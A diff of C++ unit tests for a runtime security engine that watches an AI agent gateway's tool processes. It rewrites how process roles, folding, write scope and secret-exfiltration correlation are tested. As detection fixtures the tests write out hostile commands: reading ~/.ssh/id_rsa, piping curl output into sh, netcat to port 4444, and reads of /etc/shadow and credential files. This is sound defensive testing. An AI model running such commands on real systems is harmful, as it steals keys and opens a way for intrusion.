@@ -29,27 +29,30 @@ constexpr uint32_t kShellPid = 200;  // the gateway's child: the tool run
 
 // ---- processes ---------------------------------------------------------------------------------
 
-v1::Ancestor ancestor(uint32_t pid, const std::string& comm, const std::string& exe) {
+// Roles are the kernel's (process/roles.h): events carry them, the engine reads them.
+v1::Ancestor ancestor(uint32_t pid, const std::string& comm, const std::string& exe, const std::string& role = "") {
   v1::Ancestor a;
   a.set_pid(pid);
   a.set_comm(comm);
   a.set_exe(exe);
+  a.set_role(role);
   return a;
 }
 
 const v1::Ancestor kSystemd = ancestor(1, "systemd", "/usr/lib/systemd/systemd");
-const v1::Ancestor kGatewayAncestor = ancestor(kGatewayPid, "openclaw-gatewa", "/usr/bin/node");
-const v1::Ancestor kShellAncestor = ancestor(kShellPid, "sh", "/usr/bin/dash");
+const v1::Ancestor kGatewayAncestor = ancestor(kGatewayPid, "openclaw-gatewa", "/usr/bin/node", "gateway");
+const v1::Ancestor kShellAncestor = ancestor(kShellPid, "sh", "/usr/bin/dash", "tool");
 
 // uid 0, so that `~` is /root.
 v1::Process process(uint32_t pid, const std::string& comm, const std::string& exe, const Strings& argv,
-                    const std::vector<v1::Ancestor>& lineage) {
+                    const std::vector<v1::Ancestor>& lineage, const std::string& role = "") {
   v1::Process p;
   p.set_pid(pid);
   p.set_tid(pid);
   p.set_uid(0);
   p.set_comm(comm);
   p.set_exe(exe);
+  p.set_role(role);
   for (const auto& a : argv) p.add_argv(a);
   if (!lineage.empty()) p.set_ppid(lineage.front().pid());
   for (const auto& a : lineage) *p.add_lineage() = a;
@@ -57,18 +60,21 @@ v1::Process process(uint32_t pid, const std::string& comm, const std::string& ex
 }
 
 v1::Process gateway() {
-  return process(kGatewayPid, "openclaw-gatewa", "/usr/bin/node", {"openclaw-gateway"}, {kSystemd});
+  return process(kGatewayPid, "openclaw-gatewa", "/usr/bin/node", {"openclaw-gateway"}, {kSystemd}, "gateway");
 }
 
 // The shell tool's `sh -c CMD`: the gateway's child.
 v1::Process tool_shell() {
-  return process(kShellPid, "sh", "/usr/bin/dash", {"sh", "-c", "cat ~/.ssh/id_rsa"}, {kGatewayAncestor, kSystemd});
+  return process(kShellPid, "sh", "/usr/bin/dash", {"sh", "-c", "cat ~/.ssh/id_rsa"}, {kGatewayAncestor, kSystemd},
+                 "tool");
 }
 
 // A program the tool's shell started: the gateway's grandchild.
 v1::Process tool_child(uint32_t pid = 300, const std::string& comm = "cat") {
-  return process(pid, comm, "/usr/bin/" + comm, {comm}, {kShellAncestor, kGatewayAncestor, kSystemd});
+  return process(pid, comm, "/usr/bin/" + comm, {comm}, {kShellAncestor, kGatewayAncestor, kSystemd}, "tool");
 }
+
+Engine engine_for(const std::string& text);  // a small rule set, checked to load
 
 // ---- events ------------------------------------------------------------------------------------
 
@@ -175,7 +181,12 @@ class EngineTest : public ::testing::Test {
 
   // A tool process (the shell's child) with a pid not used before, so that what it raises is
   // never folded into an earlier alert.
-  v1::Process fresh(const std::string& comm = "cat") { return tool_child(next_pid_++, comm); }
+  // A tool run of its own (the broker's child), so that no fold window of another test step
+  // holds its alerts.
+  v1::Process fresh(const std::string& comm = "cat") {
+    const uint32_t pid = next_pid_++;
+    return process(pid, comm, "/usr/bin/" + comm, {comm}, {kGatewayAncestor, kSystemd}, "tool");
+  }
 
   static RuleSet* shipped_;
   std::unique_ptr<Engine> engine_;
@@ -198,7 +209,7 @@ TEST_F(EngineTest, ToolReadingAnSshKeyRaisesSshKeys) {
   EXPECT_EQ(al.severity(), "critical");
   EXPECT_EQ(al.action(), "kill");
   EXPECT_EQ(al.outcome(), "alerted");
-  EXPECT_EQ(al.description(), "read of SSH keys or configuration");
+  EXPECT_EQ(al.description(), "access to SSH keys or configuration");
   EXPECT_EQ(al.role(), "tool");
   EXPECT_EQ(al.mode(), "monitor");
   EXPECT_EQ(al.count(), 1u);
@@ -238,7 +249,7 @@ TEST_F(EngineTest, TheToolRunItselfIsATool) {
 TEST_F(EngineTest, DotenvIsForToolsNotTheGateway) {
   EXPECT_TRUE(eval(open_file(gateway(), "/root/.openclaw/.env")).empty());
   Events out = eval(open_file(tool_child(), "/root/.openclaw/.env"));
-  EXPECT_EQ(ids(out), (Strings{"dotenv", "tool-out-of-scope"}));
+  EXPECT_EQ(ids(out), (Strings{"dotenv", "openclaw-credentials", "tool-out-of-scope"}));
   const v1::Event a = the_alert(out, "dotenv");
   EXPECT_EQ(a.alert().severity(), "error");
   EXPECT_EQ(a.alert().action(), "block");
@@ -249,35 +260,103 @@ TEST_F(EngineTest, DotenvIsForToolsNotTheGateway) {
 }
 
 TEST_F(EngineTest, ToolScope) {
-  Events out = eval(open_file(tool_child(), "/etc/hostname"));
+  Events out = eval(open_file(tool_child(), "/etc/machine-id"));
   ASSERT_EQ(ids(out), Strings{"tool-out-of-scope"});
   EXPECT_EQ(out[0].alert().severity(), "warning");
   EXPECT_EQ(out[0].alert().action(), "alert");
   EXPECT_EQ(out[0].alert().role(), "tool");
-  EXPECT_EQ(out[0].alert().evidence().path(), "/etc/hostname");
+  EXPECT_EQ(out[0].alert().evidence().path(), "/etc/machine-id");
   EXPECT_EQ(out[0].alert().evidence().access(), "read");
 
+  // What every exec-tool command and the programs it runs read (checked on the real gateway).
   for (const char* in_scope : {"/tmp/x", "/tmp/a/b/c", "/root/.openclaw/workspace/notes.md", "/usr/lib/libc.so.6",
-                               "/etc/resolv.conf", "/etc/ssl/certs/ca-certificates.crt", "/root/.cache/x", "/dev/null"})
+                               "/etc/resolv.conf", "/etc/ssl/certs/ca-certificates.crt", "/root/.cache/x", "/dev/null",
+                               "/root/.openclaw/cache/shell-snapshots/ab12.sh", "/proc/filesystems", "/etc/hostname"})
     EXPECT_TRUE(eval(open_file(fresh(), in_scope)).empty()) << in_scope;
   // A failed open is a probe, not a read.
-  EXPECT_TRUE(eval(open_file(fresh(), "/etc/hostname", kT0, -2)).empty());
+  EXPECT_TRUE(eval(open_file(fresh(), "/etc/machine-id", kT0, -2)).empty());
   EXPECT_TRUE(eval(open_file(fresh(), "/opt/x", kT0, -13)).empty());
   // Scope is for tools only.
-  EXPECT_TRUE(eval(open_file(gateway(), "/etc/hostname")).empty());
-  // And for opens only.
+  EXPECT_TRUE(eval(open_file(gateway(), "/etc/machine-id")).empty());
+  // Writing is judged by its own, narrower scope: the workspace and temporary files.
   v1::Event unlink = open_file(fresh(), "/etc/hostname");
   unlink.mutable_file()->set_op(v1::FileOp::UNLINK);
   unlink.mutable_file()->set_result(0);
-  EXPECT_TRUE(eval(unlink).empty());
+  EXPECT_EQ(ids(eval(unlink)), Strings{"tool-write-out-of-scope"});
+  v1::Event write = open_file(fresh(), "/root/.openclaw/workspace/notes.txt", kT0, 3, "write");
+  write.mutable_file()->add_flags("O_CREAT");
+  EXPECT_TRUE(eval(write).empty());
+  EXPECT_EQ(ids(eval(open_file(fresh(), "/root/.config/x.conf", kT0, 3, "write"))), Strings{"tool-write-out-of-scope"});
 }
 
-TEST_F(EngineTest, FailedOpenOfASecretStillAlerts) {
+// A process's own /proc/PID is /proc/self: the kernel walks /proc/self/... to /proc/PID/....
+TEST_F(EngineTest, OwnProcIsProcSelf) {
+  const v1::Process p = fresh();
+  const std::string own = "/proc/" + std::to_string(p.pid());
+  EXPECT_TRUE(eval(open_file(p, own + "/maps")).empty());
+  v1::Event adj = open_file(p, own + "/oom_score_adj", kT0, 3, "write");
+  EXPECT_TRUE(eval(adj).empty());
+  // another process's is not
+  EXPECT_EQ(ids(eval(open_file(fresh(), "/proc/1/maps"))), Strings{"tool-out-of-scope"});
+  EXPECT_EQ(ids(eval(open_file(fresh(), own + "0/maps"))), Strings{"tool-out-of-scope"});
+  // and /proc/self names in deny rules hold for it
+  EXPECT_EQ(ids(eval(open_file(p, own + "/environ", kT0 + kSecond))), Strings{"proc-environ"});
+  EXPECT_EQ(proc_self_alias("/proc/42", 42), "/proc/self");
+  EXPECT_EQ(proc_self_alias("/proc/42/task/42/comm", 42), "/proc/self/task/42/comm");
+  EXPECT_EQ(proc_self_alias("/proc/420/maps", 42), "");
+  EXPECT_EQ(proc_self_alias("/proc/4", 42), "");
+}
+
+// A failed open read nothing: it is worth knowing, at info, and arms no correlation.
+TEST_F(EngineTest, FailedOpenOfASecretIsAnAttemptAtInfo) {
   Events out = eval(open_file(tool_child(), "/etc/shadow", kT0, -13, "read"));
   const v1::Event a = the_alert(out, "shadow");
   ASSERT_TRUE(a.alert().evidence().has_result());
   EXPECT_EQ(a.alert().evidence().result(), -13);
+  EXPECT_EQ(a.alert().evidence().error(), "EACCES");
+  EXPECT_EQ(a.alert().severity(), "info");
   EXPECT_EQ(ids(out), Strings{"shadow"});  // no scope alert for a failed open
+  // npm probing a missing ~/.npmrc, then the tool run connecting out: no secret-exfiltration
+  eval(open_file(tool_child(301, "node"), "/root/.ssh/config", kT0, -2));
+  EXPECT_EQ(ids(eval(connect(tool_child(302, "curl"), "203.0.113.7", 443, "", kT0 + kSecond))),
+            Strings{"egress-unapproved"});
+}
+
+// access: narrows a rule to what the operation does to the file.
+TEST(EngineFiles, AccessNarrowsARule) {
+  Engine e = engine_for(R"(version: 1
+roles:
+  gateway: { root: true }
+files:
+  deny:
+    - { id: writes, path: ["/etc/app/**"], access: [write, create], severity: error }
+    - { id: reads, path: ["/etc/app/**"], access: read, severity: warning }
+)");
+  // one process each: a role that is not final folds repeats per process
+  uint32_t pid = 2;
+  auto p = [&] { return process(pid++, "sh", "/bin/sh", {"sh"}, {}, "gateway"); };
+  Events out;
+  e.evaluate(open_file(p(), "/etc/app/a"), out);
+  EXPECT_EQ(ids(out), Strings{"reads"});
+  out.clear();
+  e.evaluate(open_file(p(), "/etc/app/b", kT0, 3, "write"), out);
+  EXPECT_EQ(ids(out), Strings{"writes"});
+  out.clear();
+  e.evaluate(open_file(p(), "/etc/app/c", kT0, 3, "read_write"), out);
+  EXPECT_EQ(ids(out), (Strings{"reads", "writes"}));
+  out.clear();
+  v1::Event created = open_file(p(), "/etc/app/d", kT0, 3, "read");
+  created.mutable_file()->add_flags("O_CREAT");
+  e.evaluate(created, out);
+  EXPECT_EQ(ids(out), (Strings{"reads", "writes"}));
+  out.clear();
+  v1::Event ren = event(v1::Event::FILE, kT0, p());
+  ren.mutable_file()->set_op(v1::FileOp::RENAME);
+  ren.mutable_file()->set_path("/tmp/x");
+  ren.mutable_file()->set_new_path("/etc/app/e");
+  ren.mutable_file()->set_result(0);
+  e.evaluate(ren, out);
+  EXPECT_EQ(ids(out), Strings{"writes"});
 }
 
 TEST_F(EngineTest, RenameIsCheckedOnBothPaths) {
@@ -288,7 +367,7 @@ TEST_F(EngineTest, RenameIsCheckedOnBothPaths) {
   ev.mutable_file()->set_result(0);
   Events out = eval(ev);
   EXPECT_EQ(the_alert(out, "ssh-keys").alert().evidence().path(), "/root/.ssh/authorized_keys");
-  EXPECT_EQ(ids(out), Strings{"ssh-keys"});
+  EXPECT_EQ(ids(out), (Strings{"ssh-keys", "tool-write-out-of-scope"}));
 }
 
 // A hard link to a secret: the secret's own path is judged (the later open is under the link's).
@@ -306,7 +385,7 @@ TEST_F(EngineTest, HardLinkToASecretRaisesItsRule) {
   EXPECT_EQ(a.outcome(), "alerted");
 
   // The link guard's kill, from the kernel: the alert carries it.
-  v1::Event killed = event(v1::Event::FILE, kT0, tool_child(301));
+  v1::Event killed = event(v1::Event::FILE, kT0, fresh());
   killed.mutable_file()->set_op(v1::FileOp::LINK);
   killed.mutable_file()->set_path("/root/.ssh/id_rsa");
   killed.mutable_file()->set_resolved(true);
@@ -346,7 +425,7 @@ TEST_F(EngineTest, ToolRunningCurlRaisesExfilTools) {
   EXPECT_EQ(Strings(al.evidence().argv().begin(), al.evidence().argv().end()),
             (Strings{"curl", "-o", "/tmp/x", "https://example.com/x"}));
   // By basename wherever it lives.
-  EXPECT_EQ(ids(eval(exec(tool_child(302, "nc"), "/opt/bin/nc", {"nc", "x", "1"}))), Strings{"exfil-tools"});
+  EXPECT_EQ(ids(eval(exec(fresh("nc"), "/opt/bin/nc", {"nc", "x", "1"}))), Strings{"exfil-tools"});
   // exfil-tools is for tools: the gateway running curl is not an alert.
   EXPECT_TRUE(eval(exec(gateway(), "/usr/bin/curl", {"curl", "https://example.com"})).empty());
   EXPECT_TRUE(eval(exec(tool_child(303, "ls"), "/usr/bin/ls", {"ls", "-l"})).empty());
@@ -364,7 +443,7 @@ TEST_F(EngineTest, ExecThroughTheDynamicLoaderJudgesTheProgram) {
   EXPECT_EQ(e.program(), "/usr/bin/curl");
   EXPECT_EQ(Strings(e.argv().begin(), e.argv().end()), argv);
   // a relative program is judged as given: a name rule still sees its basename
-  EXPECT_EQ(ids(eval(exec(tool_child(311, "ld.so"), "/lib/ld.so", {"ld.so", "--", "bin/nc", "x", "1"}))),
+  EXPECT_EQ(ids(eval(exec(fresh("ld.so"), "/lib/ld.so", {"ld.so", "--", "bin/nc", "x", "1"}))),
             Strings{"exfil-tools"});
   // --argv0's value is not the program
   EXPECT_TRUE(eval(exec(tool_child(312, "ld-musl-x86_64"), "/lib/ld-musl-x86_64.so.1",
@@ -380,12 +459,11 @@ TEST_F(EngineTest, PipeToShellRaisesDropperPatterns) {
   EXPECT_EQ(out[0].alert().severity(), "error");
   EXPECT_EQ(out[0].alert().role(), "tool");
   EXPECT_EQ(out[0].alert().evidence().exe(), "/usr/bin/dash");
-  // dropper-patterns names no roles: it applies to everyone.
-  Events gw = eval(exec(gateway(), "/bin/bash", {"bash", "-c", "echo aGk= | base64 -d"}));
-  ASSERT_EQ(ids(gw), Strings{"dropper-patterns"});
-  EXPECT_EQ(gw[0].alert().role(), "gateway");
+  // dropper-patterns is for tools: OpenClaw's own shell snapshot runs `bash -i` (a helper), and
+  // anything else the gateway runs is a tool.
+  EXPECT_TRUE(eval(exec(gateway(), "/bin/bash", {"bash", "-c", "echo aGk= | base64 -d"})).empty());
   // curl with a pipe is both.
-  EXPECT_EQ(ids(eval(exec(tool_child(304, "curl"), "/usr/bin/curl", {"curl", "-s", "http://x", "|sh"}))),
+  EXPECT_EQ(ids(eval(exec(fresh("curl"), "/usr/bin/curl", {"curl", "-s", "http://x", "|sh"}))),
             (Strings{"dropper-patterns", "exfil-tools"}));
 }
 
@@ -516,14 +594,38 @@ TEST_F(EngineTest, NoSummaryWithoutRepeats) {
   EXPECT_EQ(with_rule(eval(open_file(tool_child(), "/root/.ssh/config", kT0 + 61 * kSecond)), "ssh-keys").size(), 1u);
 }
 
-TEST_F(EngineTest, FoldingIsPerProcessAndPerRule) {
+// A tool run's shells and programs are one subject: what one of them did again, another of the
+// same run doing it folds in too. Another run, or another rule, alerts on its own.
+TEST_F(EngineTest, FoldingIsPerToolRunAndPerRule) {
   EXPECT_EQ(with_rule(eval(open_file(tool_child(300), "/root/.ssh/config", kT0)), "ssh-keys").size(), 1u);
-  EXPECT_EQ(with_rule(eval(open_file(tool_child(301), "/root/.ssh/config", kT0 + kSecond)), "ssh-keys").size(), 1u);
+  EXPECT_TRUE(with_rule(eval(open_file(tool_child(301), "/root/.ssh/config", kT0 + kSecond)), "ssh-keys").empty());
   EXPECT_EQ(with_rule(eval(open_file(tool_child(300), "/etc/shadow", kT0 + 2 * kSecond)), "shadow").size(), 1u);
-  EXPECT_TRUE(eval(open_file(tool_child(301), "/root/.ssh/config", kT0 + 3 * kSecond)).empty());
-  // Folded: pid 300's second tool-out-of-scope (the shadow read) and pid 301's ssh-keys and
-  // tool-out-of-scope repeats.
+  const v1::Process other = fresh();
+  EXPECT_EQ(with_rule(eval(open_file(other, "/root/.ssh/config", kT0 + 3 * kSecond)), "ssh-keys").size(), 1u);
+  // Folded: 301's ssh-keys and tool-out-of-scope, and the second tool-out-of-scope of the run
+  // (the shadow read).
   EXPECT_EQ(engine_->stats().folded, 3u);
+  // The gateway (not a final role) folds per process.
+  EXPECT_EQ(with_rule(eval(open_file(gateway(), "/root/.ssh/config", kT0)), "ssh-keys").size(), 1u);
+}
+
+// A summary keeps what each repeat showed that the first alert did not: a decoy repeated first
+// cannot hide the destination or file that followed.
+TEST_F(EngineTest, FoldedSummaryKeepsEveryDistinctEvidence) {
+  const v1::Process curl = tool_child(301, "curl");
+  eval(connect(curl, "203.0.113.7", 443, "", kT0));
+  for (int i = 1; i <= 3; ++i) eval(connect(curl, "203.0.113.7", 443, "", kT0 + i * kSecond));  // the decoy
+  eval(connect(tool_child(302, "nc"), "198.51.100.9", 4444, "", kT0 + 5 * kSecond));        // the real one
+  for (int i = 0; i < 20; ++i) eval(connect(curl, "192.0.2." + std::to_string(i + 1), 443, "", kT0 + 6 * kSecond));
+  Events summary = with_rule(tick(kT0 + 60 * kSecond), "egress-unapproved");
+  ASSERT_EQ(summary.size(), 1u);
+  const v1::Alert& s = summary[0].alert();
+  EXPECT_EQ(s.count(), 24u);
+  ASSERT_EQ(s.other_evidence_size(), 16);
+  EXPECT_EQ(s.other_evidence(0).address(), "198.51.100.9");
+  EXPECT_EQ(s.other_evidence(0).port(), 4444u);
+  EXPECT_EQ(s.other_evidence(1).address(), "192.0.2.1");
+  EXPECT_EQ(s.other_evidence_dropped(), 5u);
 }
 
 // ---- correlation -------------------------------------------------------------------------------
@@ -584,9 +686,9 @@ TEST_F(EngineTest, IdRsaReadThenEgressCorrelates) {
 TEST_F(EngineTest, SameProcessAndDeeperDescendantsCorrelate) {
   // The shell itself reads, a grandchild of the shell connects.
   eval(open_file(tool_shell(), "/root/.aws/credentials", kT0));
-  const v1::Ancestor node = ancestor(301, "node", "/usr/bin/node");
+  const v1::Ancestor node = ancestor(301, "node", "/usr/bin/node", "tool");
   const v1::Process deep = process(400, "python3", "/usr/bin/python3", {"python3", "x.py"},
-                                   {node, kShellAncestor, kGatewayAncestor, kSystemd});
+                                   {node, kShellAncestor, kGatewayAncestor, kSystemd}, "tool");
   Events out = eval(connect(deep, "203.0.113.7", 443, "", kT0 + 5 * kSecond));
   const v1::Event a = the_alert(out, "secret-exfiltration");
   EXPECT_EQ(Strings(a.alert().related_rule_ids().begin(), a.alert().related_rule_ids().end()),
@@ -631,9 +733,9 @@ TEST_F(EngineTest, RepeatedExfiltrationByOneProcessFolds) {
   EXPECT_EQ(ids(eval(connect(curl, "203.0.113.7", 443, "", kT0 + kSecond))),
             (Strings{"egress-unapproved", "secret-exfiltration"}));
   EXPECT_TRUE(eval(connect(curl, "203.0.113.7", 443, "", kT0 + 2 * kSecond)).empty());
-  // Another process of the same run is not folded into curl's alert.
-  EXPECT_EQ(ids(eval(connect(tool_child(302, "nc"), "203.0.113.7", 4444, "", kT0 + 3 * kSecond))),
-            (Strings{"egress-unapproved", "secret-exfiltration"}));
+  // Another process of the same run folds into the run's alerts too; another run does not.
+  EXPECT_TRUE(eval(connect(tool_child(302, "nc"), "203.0.113.7", 4444, "", kT0 + 3 * kSecond)).empty());
+  EXPECT_EQ(ids(eval(connect(fresh("nc"), "203.0.113.7", 4444, "", kT0 + 4 * kSecond))), Strings{"egress-unapproved"});
 }
 
 TEST_F(EngineTest, NoCorrelationAfterTheWindow) {
@@ -655,7 +757,7 @@ TEST_F(EngineTest, NoCorrelationWithoutEgressOrAcrossToolRuns) {
   // Allowed egress from the same run.
   EXPECT_TRUE(eval(connect(tool_child(301, "curl"), "162.159.140.245", 443, "api.openai.com", kT0 + kSecond)).empty());
   // Unapproved egress from another tool run (another child of the gateway).
-  const v1::Process other = process(500, "curl", "/usr/bin/curl", {"curl"}, {kGatewayAncestor, kSystemd});
+  const v1::Process other = process(500, "curl", "/usr/bin/curl", {"curl"}, {kGatewayAncestor, kSystemd}, "tool");
   EXPECT_EQ(ids(eval(connect(other, "203.0.113.7", 443, "", kT0 + 2 * kSecond))), Strings{"egress-unapproved"});
   // Nor from the gateway itself.
   EXPECT_EQ(ids(eval(connect(gateway(), "203.0.113.7", 443, "", kT0 + 3 * kSecond))), Strings{"egress-unapproved"});
@@ -683,39 +785,34 @@ TEST_F(EngineTest, OnlyReadsArmCorrelation) {
             Strings{"egress-unapproved"});
 
   // Another tool run (its shell is 610) writes a key file, then connects.
-  const v1::Ancestor other_shell = ancestor(610, "sh", "/usr/bin/dash");
-  eval(open_file(process(611, "tee", "/usr/bin/tee", {"tee"}, {other_shell, kGatewayAncestor, kSystemd}),
+  const v1::Ancestor other_shell = ancestor(610, "sh", "/usr/bin/dash", "tool");
+  eval(open_file(process(611, "tee", "/usr/bin/tee", {"tee"}, {other_shell, kGatewayAncestor, kSystemd}, "tool"),
                  "/root/.ssh/authorized_keys", kT0, 3, "write"));
-  EXPECT_EQ(ids(eval(connect(process(612, "curl", "/usr/bin/curl", {"curl"}, {other_shell, kGatewayAncestor, kSystemd}),
+  EXPECT_EQ(ids(eval(connect(process(612, "curl", "/usr/bin/curl", {"curl"}, {other_shell, kGatewayAncestor, kSystemd}, "tool"),
                              "203.0.113.8", 443, "", kT0 + kSecond))),
             Strings{"egress-unapproved"});
 }
 
 // ---- roles -------------------------------------------------------------------------------------
 
-TEST_F(EngineTest, RolesOfTheShippedRules) {
+// The engine takes a process's role from its event (the kernel judged it; process/roles.h and
+// tests/unit/roles_test.cpp say how): a name, an exe or a lineage never makes a role.
+TEST_F(EngineTest, RolesAreTheEventsOwn) {
   EXPECT_EQ(engine_->role_of(gateway()), "gateway");
-  EXPECT_EQ(engine_->role_of(process(50, "openclaw", "/usr/bin/node", {"openclaw", "gateway"}, {kSystemd})), "gateway");
-  EXPECT_EQ(engine_->role_of(tool_shell()), "tool");
   EXPECT_EQ(engine_->role_of(tool_child()), "tool");
-  // Not under the gateway.
-  EXPECT_EQ(engine_->role_of(process(7, "bash", "/usr/bin/bash", {"bash"}, {ancestor(6, "sshd", "/usr/sbin/sshd")})),
-            "");
+  EXPECT_EQ(engine_->role_of(process(50, "openclaw-gatewa", "/usr/bin/node", {"openclaw"}, {kShellAncestor}, "tool")),
+            "tool");
   EXPECT_EQ(engine_->role_of(v1::Process()), "");
-  // The gateway role is by comm only: node running OpenClaw before its rename is not one.
-  EXPECT_EQ(engine_->role_of(process(8, "node", "/usr/bin/node", {"node", "/usr/lib/node_modules/openclaw/x.js"},
-                                     {kSystemd})),
-            "");
   EXPECT_EQ(engine_->mode(), Mode::kMonitor);
 }
 
 constexpr const char* kRoleRules = R"(version: 1
 roles:
-  gateway: { comm: [openclaw-gatewa] }
-  browser: { exe: ["/opt/chrome/**"], argv_contains: [--headless] }
-  worker: { argv_contains: [worker.js] }
-  tool: { descendant_of: gateway }
-  helper: { descendant_of: browser }
+  gateway: { root: true }
+  helper: { started_by: [gateway], exec: [{ exe: node, argv: ["*", "*/worker.js"] }] }
+  tool: { started_by: [gateway, helper], final: true }
+egress:
+  default: deny
 )";
 
 Engine engine_for(const std::string& text) {
@@ -724,27 +821,27 @@ Engine engine_for(const std::string& text) {
   return Engine(r.rules);
 }
 
-TEST(EngineRoles, ConditionsAndOrder) {
-  LoadResult r = parse_rules(kRoleRules, "roles.yaml");
-  ASSERT_TRUE(r.ok());
-  Engine e(r.rules);
-  const v1::Ancestor gw = ancestor(10, "openclaw-gatewa", "/usr/bin/node");
-  // exe glob, argv substring.
-  EXPECT_EQ(e.role_of(process(20, "chrome", "/opt/chrome/bin/chrome", {"chrome"}, {gw})), "browser");
-  EXPECT_EQ(e.role_of(process(21, "node", "/usr/bin/node", {"node", "--headless=new"}, {gw})), "browser");
-  EXPECT_EQ(e.role_of(process(22, "node", "/usr/bin/node", {"node", "/srv/worker.js"}, {})), "worker");
-  // A process's own conditions are tried role by role in file order, and the first match wins:
-  // a worker under the gateway is a worker, not a tool.
-  EXPECT_EQ(e.role_of(process(23, "node", "/usr/bin/node", {"node", "/srv/worker.js"}, {gw})), "worker");
-  // descendant_of: any ancestor, matched on its comm and exe.
-  EXPECT_EQ(e.role_of(process(24, "sh", "/bin/sh", {"sh"}, {ancestor(23, "node", "/usr/bin/node"), gw})), "tool");
-  EXPECT_EQ(e.role_of(process(25, "cat", "/bin/cat", {"cat"}, {ancestor(20, "chrome", "/opt/chrome/bin/chrome")})),
-            "helper");
-  // Ancestors are not matched on argv (the lineage has none).
-  EXPECT_EQ(e.role_of(process(26, "cat", "/bin/cat", {"cat"}, {ancestor(22, "node", "/usr/bin/node")})), "");
-  // comm is compared as the kernel keeps it.
-  EXPECT_EQ(e.role_of(process(27, "openclaw-gatewa", "/x", {}, {})), "gateway");
-  EXPECT_EQ(e.role_of(process(28, "openclaw-gatew", "/x", {}, {})), "");
+// The tool run an alert names is the first process below a role that is not final: the
+// broker's child, not the broker or the gateway.
+TEST(EngineRoles, TheToolRunIsTheFirstProcessBelowANonFinalRole) {
+  Engine e = engine_for(kRoleRules);
+  const v1::Ancestor gw = ancestor(10, "openclaw-gatewa", "/usr/bin/node", "gateway");
+  const v1::Ancestor broker = ancestor(11, "node-MainThread", "/usr/bin/node", "helper");
+  const v1::Ancestor shell = ancestor(12, "bash", "/usr/bin/bash", "tool");
+  Events out;
+  e.evaluate(connect(process(13, "curl", "/usr/bin/curl", {"curl"}, {shell, broker, gw, kSystemd}, "tool"), "203.0.113.7",
+                     443),
+             out);
+  ASSERT_EQ(out.size(), 1u);
+  EXPECT_EQ(out[0].alert().role(), "tool");
+  EXPECT_EQ(out[0].alert().tool_pid(), 12u);
+  out.clear();
+  e.evaluate(connect(process(11, "node-MainThread", "/usr/bin/node", {"node"}, {gw, kSystemd}, "helper"), "203.0.113.8",
+                     443),
+             out);
+  ASSERT_EQ(out.size(), 1u);
+  EXPECT_EQ(out[0].alert().role(), "helper");
+  EXPECT_EQ(out[0].alert().tool_pid(), 0u);
 }
 
 // ---- small rule sets ---------------------------------------------------------------------------
@@ -753,8 +850,8 @@ TEST(EngineRules, ModeAndWindowsComeFromTheRules) {
   Engine e = engine_for(R"(version: 1
 mode: enforce
 roles:
-  gateway: { comm: [gw] }
-  tool: { descendant_of: gateway }
+  gateway: { root: true }
+  tool: { started_by: [gateway], final: true }
 egress:
   default: deny
   unapproved: { id: out, severity: warning, action: block }
@@ -767,7 +864,7 @@ alerts:
   correlation_window: 30s
 )");
   EXPECT_EQ(e.mode(), Mode::kEnforce);
-  const v1::Process tool = process(2, "sh", "/bin/sh", {"sh"}, {ancestor(1, "gw", "/bin/gw")});
+  const v1::Process tool = process(2, "sh", "/bin/sh", {"sh"}, {ancestor(1, "gw", "/bin/gw", "gateway")}, "tool");
   Events out;
   e.evaluate(open_file(tool, "/root/.ssh/k", kT0), out);
   e.evaluate(open_file(tool, "/root/.ssh/k", kT0 + 5 * kSecond), out);
@@ -842,9 +939,11 @@ v1::Event guarded(v1::Event::Kind kind, const std::string& rule, const std::stri
   ev.set_kind(kind);
   ev.mutable_process()->set_pid(20);
   ev.mutable_process()->set_comm("curl");
+  ev.mutable_process()->set_role("tool");
   auto* gw = ev.mutable_process()->add_lineage();
   gw->set_pid(10);
   gw->set_comm("openclaw-gatewa");
+  gw->set_role("gateway");
   auto* e = ev.mutable_enforcement();
   e->set_rule_id(rule);
   e->set_verdict(verdict);
@@ -855,7 +954,7 @@ v1::Event guarded(v1::Event::Kind kind, const std::string& rule, const std::stri
 TEST(EngineEnforcement, VerdictsBecomeOutcomes) {
   auto res = parse_rules(
       "version: 1\nmode: enforce\n"
-      "roles:\n  gateway: { comm: [openclaw-gatewa] }\n  tool: { descendant_of: gateway }\n"
+      "roles:\n  gateway: { root: true }\n  tool: { started_by: [gateway], final: true }\n"
       "egress:\n  default: deny\n  allow:\n    - { id: ok, cidr: 10.0.0.0/8 }\n"
       "files:\n  deny:\n    - { id: keys, path: [\"/secret/**\"], action: kill }\n"
       "volume:\n  - { id: budget, roles: [tool], window: 60s, max_bytes: 1000, action: block }\n"
@@ -931,9 +1030,11 @@ v1::Event env_event(uint32_t pid, const std::string& comm, bool under_gateway, c
   ev.mutable_process()->set_pid(pid);
   ev.mutable_process()->set_comm(comm);
   if (under_gateway) {
+    ev.mutable_process()->set_role("tool");
     auto* gw = ev.mutable_process()->add_lineage();
     gw->set_pid(10);
     gw->set_comm("openclaw-gatewa");
+    gw->set_role("gateway");
   }
   ev.mutable_env()->set_op(op);
   if (!name.empty()) {
@@ -946,7 +1047,7 @@ v1::Event env_event(uint32_t pid, const std::string& comm, bool under_gateway, c
 TEST(EngineEnv, SecretReadsDumpsHandingAndPtrace) {
   auto res = parse_rules(
       "version: 1\n"
-      "roles:\n  gateway: { comm: [openclaw-gatewa] }\n  tool: { descendant_of: gateway }\n"
+      "roles:\n  gateway: { root: true }\n  tool: { started_by: [gateway], final: true }\n"
       "egress:\n  default: deny\n"
       "env:\n  secret_names: [\"*_API_KEY\", GH_TOKEN]\n  rules:\n"
       "    - { id: read, what: read, roles: [tool] }\n"
